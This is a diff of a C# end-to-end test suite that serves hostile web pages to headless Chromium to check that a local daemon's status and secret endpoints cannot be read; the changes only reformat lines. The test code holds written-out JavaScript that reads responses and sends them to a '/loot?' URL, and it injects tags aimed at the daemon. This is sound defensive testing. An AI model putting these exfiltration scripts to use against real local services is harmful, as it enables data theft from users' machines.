@@ -17,7 +17,8 @@ public sealed class HostilePageTests(SignedRepository repository) : EndToEndTest
         await using (evil)
         await using (secret)
         {
-            evil.Otherwise = _ => Page($"{Send("await text('/p2p/status')")} {Send($"await text('/{secret.EndPoint}/')")}", "title = 'ran'");
+            evil.Otherwise = _ =>
+                Page($"{Send("await text('/p2p/status')")} {Send($"await text('/{secret.EndPoint}/')")}", "title = 'ran'");
 
             var shown = await OpenAsync($"{daemon.Address}{evil.EndPoint}/page.html");
 
@@ -36,18 +37,23 @@ public sealed class HostilePageTests(SignedRepository repository) : EndToEndTest
         await using (secret)
         {
             var through = $"{daemon.Address}{secret.EndPoint}/x";
-            evil.Otherwise = request => request.Target != "/" ? Answer.Of(default) : Page(
-                "for (const name of ['img', 'iframe', 'script', 'link', 'video', 'object']) {"
-                + "const tag = document.createElement(name); tag.rel = 'stylesheet';"
-                + $"tag.src = tag.href = tag.data = '{through}'; document.body.append(tag); }}"
-                + $"{Send($"await text('{through}')")} {Send($"await text('{through}', {{mode: 'no-cors'}})")} {Send($"await text('{daemon.Address}p2p/status')")}"
-                + $"{Send($"await text('{daemon.Address}p2p/status', {{mode: 'no-cors'}})")}",
-                "await fetch('/done')");
+            evil.Otherwise = request =>
+                request.Target != "/"
+                    ? Answer.Of(default)
+                    : Page(
+                        "for (const name of ['img', 'iframe', 'script', 'link', 'video', 'object']) {"
+                            + "const tag = document.createElement(name); tag.rel = 'stylesheet';"
+                            + $"tag.src = tag.href = tag.data = '{through}'; document.body.append(tag); }}"
+                            + $"{Send($"await text('{through}')")} {Send($"await text('{through}', {{mode: 'no-cors'}})")} "
+                            + $"{Send($"await text('{daemon.Address}p2p/status')")}"
+                            + $"{Send($"await text('{daemon.Address}p2p/status', {{mode: 'no-cors'}})")}",
+                        "await fetch('/done')");
 
             await OpenAsync(evil.Url("/"));
 
             Assert.Contains(evil.Requests, request => request.Target == "/done"); // it has run to its end
-            Assert.DoesNotContain(evil.Requests, request => request.Target.StartsWith("/loot?", StringComparison.Ordinal) && request.Target.Length > "/loot?".Length);
+            Assert.DoesNotContain(evil.Requests, request =>
+                request.Target.StartsWith("/loot?", StringComparison.Ordinal) && request.Target.Length > "/loot?".Length);
             Assert.Empty(secret.Requests);
         }
     }
@@ -93,7 +99,8 @@ public sealed class HostilePageTests(SignedRepository repository) : EndToEndTest
         + $"(async () => {{ {script} {end} }})();</script>")).With("Content-Type", "text/html");
 
     /// <summary>Sends what an expression gives to where the page came from.</summary>
-    private static string Send(string expression) => $"try {{ const loot = {expression}; await fetch('/loot?' + encodeURIComponent(loot)); }} catch {{ }}";
+    private static string Send(string expression) =>
+        $"try {{ const loot = {expression}; await fetch('/loot?' + encodeURIComponent(loot)); }} catch {{ }}";
 
     /// <returns>What the browser shows, when all that the page does has ended.</returns>
     private async Task<string> OpenAsync(string address)
@@ -103,7 +110,11 @@ public sealed class HostilePageTests(SignedRepository repository) : EndToEndTest
             throw Requirement.Missing($"the program {missing} is missing");
         }
 
-        string[] quiet = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", $"--user-data-dir={Folder("browser")}"];
+        string[] quiet =
+        [
+            "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
+            $"--user-data-dir={Folder("browser")}",
+        ];
         return (await Command.RunAsync("chromium", [.. quiet, "--virtual-time-budget=8000", "--dump-dom", address])).Succeeded().Output;
     }
 
@@ -112,7 +123,9 @@ public sealed class HostilePageTests(SignedRepository repository) : EndToEndTest
         using var client = new TcpClient();
         await client.ConnectAsync(daemon.Address.Host, daemon.Address.Port, TestContext.Current.CancellationToken);
         await using var stream = client.GetStream();
-        await stream.WriteAsync(Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n"), TestContext.Current.CancellationToken);
+        await stream.WriteAsync(
+            Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n"),
+            TestContext.Current.CancellationToken);
         using var reader = new StreamReader(stream, Encoding.Latin1);
         return await reader.ReadToEndAsync(TestContext.Current.CancellationToken);
     }
